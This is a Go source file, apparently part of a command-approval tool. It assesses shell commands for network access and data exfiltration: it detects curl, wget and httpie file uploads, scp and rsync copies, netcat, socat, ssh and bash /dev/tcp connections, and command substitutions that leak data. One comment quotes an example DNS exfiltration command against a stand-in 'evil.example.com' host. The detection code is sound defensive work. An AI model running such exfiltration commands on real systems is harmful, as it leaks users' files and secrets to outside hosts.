package risk

import (
	"fmt"
	"net/url"
	"slices"
	"strings"

	"github.com/wardenhq/warden/approvals/command"
	"github.com/wardenhq/warden/internal/lazyre"
)

// Transfers: what a command fetches, uploads and which machines it reaches
// (curl, wget, httpie, scp, rsync, ssh, bash's /dev/tcp).

// bashNetPath recognises bash's /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT
// redirections, which open network connections.
func bashNetPath(p string) (string, bool) {
	for _, prefix := range []string{"/dev/tcp/", "/dev/udp/"} {
		if rest, ok := strings.CutPrefix(p, prefix); ok {
			host, _, _ := strings.Cut(rest, "/")
			return host, host != ""
		}
	}
	return "", false
}

func (as *Assessor) contacts(host string, level Level) {
	if host == "" {
		return
	}
	if !slices.Contains(as.hosts, host) {
		as.hosts = append(as.hosts, host)
	}
	if !as.remotesRead {
		as.remotes, as.remotesRead = RepoRemoteHosts(as.ctx.Cwd), true
	}
	if _, high := HostReach(host); high {
		// A cloud metadata service hands out the machine's credentials.
		level = High
	}
	as.Add(level, NetworkAccess, "contacts "+host+hostNote(host, as.remotes))
}

func (as *Assessor) fetch(prog string, args []string) {
	var hosts []string
	for _, a := range args {
		if h := wordURLHost(a); h != "" {
			hosts = append(hosts, h)
		}
	}
	for _, h := range hosts {
		as.contacts(h, Medium)
	}
	dest := "the network"
	if len(hosts) > 0 {
		dest = hosts[0]
	}
	for i, a := range args {
		var file string
		switch {
		case (a == "-d" || a == "--data" || a == "--data-binary" || a == "--data-raw" || a == "--data-urlencode" || a == "-F" || a == "--form") && i+1 < len(args):
			if v := args[i+1]; strings.Contains(v, "@") {
				file = v[strings.Index(v, "@")+1:]
			}
		case (a == "-T" || a == "--upload-file") && i+1 < len(args):
			file = args[i+1]
		case strings.HasPrefix(a, "--post-file="), strings.HasPrefix(a, "--body-file="):
			file = a[strings.Index(a, "=")+1:]
		case strings.HasPrefix(a, "-d@"):
			file = a[3:]
		case (prog == "http" || prog == "https" || prog == "xh") && !strings.HasPrefix(a, "-"):
			file = httpieFile(a)
		}
		if file != "" && file != "-" {
			as.stoppedIf(as.offline(), High, DataExfiltration, fmt.Sprintf("uploads %s to %s", as.Display(as.abs(file), false), dest))
			as.Reads(file)
		}
	}
	as.substitutedUploads(args, dest)
	if prog == "curl" || prog == "wget" {
		for i, a := range args {
			if (a == "-o" || a == "--output" || a == "-O" && prog == "wget") && i+1 < len(args) {
				as.writes(args[i+1], true)
			}
		}
	}
}

// httpieSeparators are httpie's request-item separators, the longest
// first where one begins another.
var httpieSeparators = []string{":=@", "=@", "@", ":=", "==", "=", ":"}

// httpieFile is the file an httpie request item sends: the whole body
// (@FILE), a form file (NAME@FILE), a field's text or JSON from a file
// (NAME=@FILE, NAME:=@FILE); "" for other items (email=a@b.com is text).
func httpieFile(item string) string {
	at, sep := -1, ""
	for _, s := range httpieSeparators {
		if i := strings.Index(item, s); i >= 0 && (at < 0 || i < at) {
			at, sep = i, s
		}
	}
	if at < 0 || !strings.HasSuffix(sep, "@") || strings.Contains(item, "://") {
		return ""
	}
	return item[at+len(sep):]
}

// wordURLHost is the host of a URL word, also one that expands a command
// substitution or a variable after its host ("https://h/?q=$(...)", kept
// as its source text): "" when the host itself is not literal.
func wordURLHost(w string) string {
	if h := urlHost(w); h != "" {
		return h
	}
	w = strings.TrimLeft(w, `"'`)
	cut := strings.IndexAny(w, "$`")
	if cut < 0 {
		return ""
	}
	scheme := strings.Index(w, "://")
	if scheme < 0 || scheme > cut {
		return ""
	}
	end := strings.IndexAny(w[scheme+3:], "/?#")
	if end < 0 || scheme+3+end > cut {
		return "" // the host goes on past the expansion
	}
	return urlHost(w[:scheme+3+end])
}

// substitutedUploads flags a command substitution in a network command's
// arguments whose command outputs files' contents (a producerStage: cat,
// base64, tar...): its output is sent to dest, as a pipe into the command
// would be.
func (as *Assessor) substitutedUploads(args []string, dest string) {
	for _, a := range args {
		for _, inner := range substitutions(a) {
			if producerStage().MatchString(inner) {
				level := High
				if !strings.HasPrefix(dest, "DNS") {
					level = remoteLevel(dest)
				}
				as.stoppedIf(as.offline(), level, DataExfiltration, fmt.Sprintf("uploads the output of `%s` to %s", command.EscapeText(strings.TrimSpace(inner)), dest))
			}
		}
	}
}

// substitutions are the commands of a word's $(...) and `...`
// substitutions, as written (outermost only).
func substitutions(w string) []string {
	var out []string
	for i := 0; i < len(w); i++ {
		switch {
		case strings.HasPrefix(w[i:], "$("):
			depth, j := 1, i+2
			for ; j < len(w) && depth > 0; j++ {
				switch w[j] {
				case '(':
					depth++
				case ')':
					depth--
				}
			}
			if depth == 0 {
				out = append(out, w[i+2:j-1])
			}
			i = j - 1
		case w[i] == '`':
			if end := strings.IndexByte(w[i+1:], '`'); end >= 0 {
				out = append(out, w[i+1:i+1+end])
				i += end + 1
			}
		}
	}
	return out
}

var sshHostArg = lazyre.New(`^(?:[\w.+-]+@)?([A-Za-z0-9][\w.-]*)(?::.*)?$`)

func (as *Assessor) remote(prog string, args []string) {
	ops := Operands(args)
	switch prog {
	case "scp", "rsync":
		if len(ops) < 2 {
			return
		}
		dest := ops[len(ops)-1]
		for _, op := range ops {
			if i := strings.Index(op, ":"); i > 0 && !strings.Contains(op[:i], "/") {
				host := op[:i]
				if at := strings.LastIndex(host, "@"); at >= 0 {
					host = host[at+1:]
				}
				as.contacts(host, Medium)
				if op == dest {
					for _, src := range ops[:len(ops)-1] {
						as.stoppedIf(as.offline(), High, DataExfiltration, fmt.Sprintf("copies %s to %s", as.Display(as.abs(src), false), host))
						as.Reads(src)
					}
				}
			}
		}
		if !strings.Contains(dest, ":") {
			as.writes(dest, false)
		}
	case "nc", "ncat", "netcat":
		// Not -e's program or -p's port: the host it connects to, if any
		// (a listener has none).
		if nc := parseNetcat(args); nc.host != "" && !nc.listen {
			if m := sshHostArg().FindStringSubmatch(nc.host); m != nil {
				as.contacts(m[1], Medium)
			}
		}
	case "socat":
		for _, addr := range socatAddresses(args) {
			if kind, host := socatAddress(addr); kind == "connect" {
				as.contacts(host, Medium)
			}
		}
	case "ssh":
		// Not the first operand: -L, -R and -D take forward specs.
		if m := sshHostArg().FindStringSubmatch(parseSSH(args).host); m != nil {
			as.contacts(m[1], Medium)
		}
	default:
		// A name built from a file's contents leaves in the lookup itself
		// (dig $(xxd -p < f).evil.example.com).
		as.substitutedUploads(args, "DNS, in a name ("+prog+")")
		// The first operand that is not a bare number (a count, a port).
		for _, op := range ops {
			if command.LooksNumeric(op) && !strings.Contains(op, ".") {
				continue
			}
			if m := sshHostArg().FindStringSubmatch(op); m != nil {
				as.contacts(m[1], Medium)
			}
			return
		}
	}
}

// urlHost returns the host of a URL argument, or "".
func urlHost(s string) string {
	if !strings.Contains(s, "://") {
		return ""
	}
	u, err := url.Parse(s)
	if err != nil || u.Hostname() == "" {
		return ""
	}
	return u.Hostname()
}
